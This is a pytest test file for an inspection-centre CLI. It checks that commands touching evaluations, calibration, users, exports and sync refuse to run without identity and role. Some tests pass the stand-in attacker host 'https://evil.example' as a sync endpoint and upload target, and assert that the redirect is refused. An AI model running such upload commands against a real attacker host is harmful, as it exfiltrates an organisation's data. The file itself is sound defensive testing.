"""Commands without identity (issue #26, cause 7): every command that reads or changes what the policy guards
needs --user/--as and the password, and shows an inspector only their own."""

import json
import subprocess
import sys

import pytest

from tests.calibration_fixtures import LEAD, lead_session, score_call, workstation
from inspector.store.users import UserRepository
from tests.conftest import ROOT


def _cli(ws, *args, stdin=""):
    done = subprocess.run([sys.executable, "-m", "inspector", "--data-dir", str(ws), *args], cwd=ROOT,
                          capture_output=True, text=True, input=stdin, timeout=180)
    assert "Traceback" not in done.stderr, done.stderr
    return done


@pytest.fixture(scope="module")
def centre(tmp_path_factory):
    station = workstation(tmp_path_factory.mktemp("centre"))
    users = UserRepository(station.db)
    for who in ("1001", "1002"):
        users.add(LEAD, who, f"质检{who}", "inspector", f"pass-{who}", must_change_password=False)
    session = lead_session(station, participants=("1001", "1002"))
    score_call(station, session, session.call_ids[0], "1001", {})
    from inspector.scoring.defaults import default_card
    from inspector.scoring.evaluation import Evaluation
    from inspector.store.evaluations import EvaluationRepository
    repo = EvaluationRepository(station.db, default_card())
    for who, call in (("1001", station.call_ids()[0]), ("1002", station.call_ids()[1])):
        draft = Evaluation(f"00000000-0000-0000-0000-00000000{who}", call, who, default_card().id, default_card().version)
        repo.save(draft, who)
    return station, session


GUARDED = {
    "evaluations": ["evaluations", "--format", "json"],
    "calibration list": ["calibration", "list"],
    "calibration export-pack": ["calibration", "export-pack", "{session}", "--out", "{tmp}"],
    "calibration import-results": ["calibration", "import-results", "{tmp}/r.zip"],
    "sync-setup": ["sync-setup", "--centre", "ELSEWHERE", "--endpoint", "https://evil.example"],
    "users list": ["users", "list"],
    "appeals list": ["appeals", "list"],
    "redlines list": ["redlines", "list"],
    "export": ["export", "--out", "{tmp}/b.zip"],
}


@pytest.mark.parametrize("name", GUARDED)
def test_guarded_commands_refuse_without_identity_and_show_nothing(centre, tmp_path, name):
    station, session = centre
    args = [a.format(session=session.id, tmp=tmp_path) for a in GUARDED[name]]
    done = _cli(station.root, *args)
    assert done.returncode == 2 and done.stdout == "" and done.stderr.strip(), (name, done.stderr)


@pytest.mark.parametrize("name", ["calibration export-pack", "calibration import-results", "sync-setup",
                                  "users list", "redlines list"])
def test_lead_only_commands_refuse_an_inspector(centre, tmp_path, name):
    station, session = centre
    args = [a.format(session=session.id, tmp=tmp_path) for a in GUARDED[name]]
    flag = "--as" if args[0] == "users" else "--user"
    done = _cli(station.root, *args, flag, "1001", "--password-stdin", stdin="pass-1001\n")
    assert done.returncode == 2 and done.stdout == "" and "may not" in done.stderr, done.stderr


def test_an_inspector_lists_only_their_own_evaluations(centre):
    station, _session = centre
    own = _cli(station.root, "evaluations", "--format", "json", "--user", "1001", "--password-stdin",
               stdin="pass-1001\n")
    assert own.returncode == 0 and {e["inspector"] for e in json.loads(own.stdout)} == {"1001"}
    other = _cli(station.root, "evaluations", "--inspector", "1002", "--user", "1001", "--password-stdin",
                 stdin="pass-1001\n")
    assert other.returncode == 2 and other.stdout == ""
    everyone = _cli(station.root, "evaluations", "--format", "json", "--user", LEAD.id, "--password-stdin",
                    stdin="lead-pass\n")
    assert {e["inspector"] for e in json.loads(everyone.stdout)} == {"1001", "1002"}


def test_upload_elsewhere_needs_a_lead(centre):
    station, _session = centre
    set_up = _cli(station.root, "sync-setup", "--centre", "GD", "--endpoint", "https://hq.example",
                  "--user", LEAD.id, "--password-stdin", stdin="lead-pass\n")
    assert set_up.returncode == 0, set_up.stderr
    redirected = _cli(station.root, "upload", "--to", "https://evil.example", "--attempts", "1")
    assert redirected.returncode == 2 and "--user" in redirected.stderr
